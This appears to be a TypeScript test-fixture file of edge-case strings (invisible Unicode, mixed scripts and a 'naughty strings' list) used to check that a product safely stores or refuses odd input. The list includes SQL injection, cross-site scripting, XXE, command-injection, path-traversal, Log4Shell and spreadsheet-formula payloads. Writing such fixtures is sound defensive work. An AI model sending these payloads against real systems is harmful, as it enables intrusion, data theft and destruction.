/** Texts in which nothing can be seen, none of which `trim` removes: each counts as empty. */
export const INVISIBLE_TEXTS: readonly string[] = [
  // zero-width spaces and joiners, soft hyphen, marks of direction
  ...['\u200b', '\u200c', '\u200d', '\u2060', '\u180e', '\u00ad', '\u200e', '\u200f', '\u061c', '\u202e\u202c'],
  ...['\u2066\u2069', '\u2061\u2062\u2063\u2064', '\ufff9\ufffa\ufffb'],
  // letters and signs without a shape
  ...['\u2800', '\u3164', '\uffa0', '\u115f', '\u1160', '\u17b4\u17b5', '\u{1d159}'],
  // variation selectors, tags, the grapheme joiner
  ...['\ufe0e', '\ufe0f', '\u180b', '\u{e0100}', '\u{e0001}\u{e0041}', '\u034f'],
  // control characters
  ...['\u0001', '\u007f', '\u0080', '\u0085', '\u001b'],
  // several of them, among spaces
  ...['\u200b \u200b', ' \u00ad\u3000\u2800\u200d ', '\u200b'.repeat(120)],
];

/** Names in which an invisible character joins or separates letters, or chooses the form of a sign. */
export const JOINED_TEXTS: readonly string[] = [
  ...['می\u200cخواهم', 'දුම්\u200dරිය', 'ക്\u200d', 'র\u200d্যাব', '👩\u200d🎓', '❤\ufe0f', '1\ufe0f\u20e3'],
  ...['🏴\u{e0067}\u{e0062}', 'co\u00adop', 'a\u200bb', '\u200fשלום', 'ᠮᠣᠩᠭᠣᠯ\u180e', '.', '\u0301', '\ue000'],
  ...['\u0600'],
];

/**
 * Texts that have broken products before, written by hand: each must come back as it was sent, but for Unicode's
 * composed form and white space at the ends, or be refused.
 */
export const NAUGHTY_TEXTS: readonly string[] = [
  // words of programs
  ...['undefined', 'null', 'NULL', '(null)', 'nil', 'NIL', 'none', 'None', 'true', 'false', 'True', 'FALSE', 'NaN'],
  ...['Infinity', '-Infinity', 'hasOwnProperty', '__proto__', 'constructor', 'prototype', 'toString', 'then'],
  ...['[object Object]', 'void 0', 'EOF', '\\', '\\\\', '/dev/null', 'CON', 'PRN', 'NUL', 'COM1', 'LPT1', 'AUX'],
  // numbers and what passes for them
  ...['0', '-0', '00', '1', '-1', '+1', '1.00', '.5', '5.', '1e2', '1E2', '1e400', '-1e400', '0x0', '0xffffffff'],
  ...['1/2', '1,000,000.00', '1 000 000,00', "1'000'000.00", '--1', '-', '1_000', '0o7', '0b1', '1#INF', '۱۲۳'],
  ...['2147483648', '9007199254740993', '9223372036854775808', '123456789012345678901234567890', '²³', '１２３'],
  ...['2026-02-30', '1970-01-01T00:00:00Z', '0000-00-00', '12:61', 'Infinity-01-01'],
  // every printable sign, and those that end things
  ...['!"#$%&\'()*+,-./', ':;<=>?@', '[\\]^_`', '{|}~', "'", '"', "''", '""', '\'"', '"\'"', '`', '´', '¨', '°'],
  ...['<>?:"{}|_+', ",./;'[]\\-=", '!@#$%^&*()`~', '--', '/*', '*/', '//', '<!--', '-->', ']]>', '<![CDATA[', '%'],
  ...['%s', '%d', '%n%n%n', '%x%x%x', '%00', '%0a', '%20', '%2e%2e%2f', '%E0%A4%A', '%u0041', '&amp;', '&#0;'],
  ...['&lt;b&gt;', '&nbsp;', '\u0024{7*7}', '{{7*7}}', '<%= 7*7 %>', '#{7*7}', '{7*7}', '$(id)', '`id`', '$HOME'],
  ...['~'],
  // injections into databases
  ...["'; drop table reviews; --", "' or '1'='1", '" or ""="', "1' or 1=1 --", "admin'--", '1;select 1', "') or ('1"],
  ...["' union select null, null --", "'||pg_sleep(1)||'", "\\'; drop table users; --", 'x%', '_', '%_%', 'a\\_b'],
  // markup and scripts
  ...['<b>bold</b>', '<script>alert(1)</script>', '</script><script>alert(1)</script>', '</title><h1>'],
  ...['<img src=x>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '"><script>alert(1)</script>', "'><b>"],
  ...['<a href="x">', 'javascript:alert(1)', ' javascript:alert(1)', 'data:text/html,<b>', '<iframe src=//e>'],
  ...['<base href=//e>', '<style>*{display:none}</style>', '<meta http-equiv=refresh content=0>'],
  ...['<!--#exec cmd="id"-->', '<?php 1 ?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;'],
  ...['<scr<script>ipt>', '<\x0bscript>', '＜script＞', '[link](javascript:alert(1))', '**bold**', '![image](//e/x)'],
  ...['# heading', '| a | b |', '```\ncode\n```', '{"json": true}', '"}', '\\"}', '\u2028\u2029', '</script\u2028>'],
  ...['--!>', '<!-- <script>'],
  // commands, files, headers, spreadsheets
  ...['; ls -la', '| cat /etc/passwd', '&& reboot', '../../../../etc/passwd', '..\\..\\boot.ini'],
  ...['file:///etc/passwd', 'http://169.254.169.254/latest', '//e.example', '\\\\e.example\\share'],
  ...['a\r\nBcc: victim@example.org', 'a\nb', 'a\r\n\r\nHTTP/1.1 200 OK', '=1+1', '+1+1', '-1+1', '@SUM(1)'],
  ...["=cmd|' /C calc'!A0", '\t=1+1', '() { :; }; echo', '\u0024{jndi:ldap://e.example/a}', '*)(uid=*))(|(uid=*'],
  ...["'; exec xp_cmdshell('dir') --"],
  // alphabets
  ...['Ω≈ç√∫˜µ≤≥÷', 'åß∂ƒ©˙∆˚¬…æ', 'œ∑´®†¥¨ˆøπ“‘', '¡™£¢∞§¶•ªº–≠', 'ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ', 'абвгдеёжзийк', 'ΑΒΓΔ αβγδ'],
  ...[
    '田中さんにあげて下さい',
    'パーティーへ行かないか',
    '사회과학원 어학연구소',
    '社會科學院',
    '大學',
    'ｶﾀｶﾅ',
    '㌔㍉',
    'ไทย',
    'မြန်မာ',
    'हिन्दी',
    'தமிழ்',
  ],
  ...['ქართული', 'Հայերեն', 'አማርኛ', 'ᚠᛇᚻ', '𐎀𐎁𐎂', '𒐫', '﷽', 'Ǆ ǅ ǆ', 'שלום', 'مرحبا بالعالم', 'هَٰذَا'],
  ...['abc שלום def', '\u202eabc\u202c', '\u2066abc\u2069', '\u200fabc', 'a\u200eb', 'İstanbul', 'ıI', 'straße'],
  ...['STRASSE', 'ﬁ ﬂ', 'Å Å Å', 'é é', 'K k', 'ſ', 'Σςσ', 'ÅΩ', 'Ǆ'],
  // marks, emoji, invisible ones
  ...['Z̮̞̠͙͔ͅA͇L̲G̺O', `a${'\u0301'.repeat(100)}`, '😀', '👩‍👩‍👧‍👦', '👍🏿', '🇺🇳', '🏴‍☠️', '❤️', '0️⃣'],
  ...['🏳️‍🌈', '🫠', '\u00a0', ' a\u00a0', '\u2003', '\ufeff', 'a\ufeffb', '\u3000'],
  ...INVISIBLE_TEXTS,
  ...JOINED_TEXTS,
  ...['a\u0007b', 'a\u001b[31mb', '\ufffd', '\ufffe', '\uffff', '\u{1fffe}', '\u{e000}', '\u{f0000}', '\u{10ffff}'],
  ...['\ufff9a\ufffa', 'tab\tinside', '\ttabs around\t', 'line\nfeed', 'carriage\rreturn', 'form\ffeed'],
  ...['two  spaces', '   ends   '],
  // what cannot be stored
  ...['a\0b', '\0', 'a\ud800', '\udfff', '\ud83d \ude00', 'x\udc00y'],
  // lengths
  ...['x'.repeat(120), 'x'.repeat(121), 'x'.repeat(200), 'x'.repeat(201), '😀'.repeat(120), '😀'.repeat(121)],
  ...['x'.repeat(2_000), 'x'.repeat(2_001), 'x'.repeat(5_000), 'x'.repeat(5_001), '﷽'.repeat(200), 'ﷺ'.repeat(5_000)],
  ...['', ' ', '\n', '\t', '\u2028'],
];
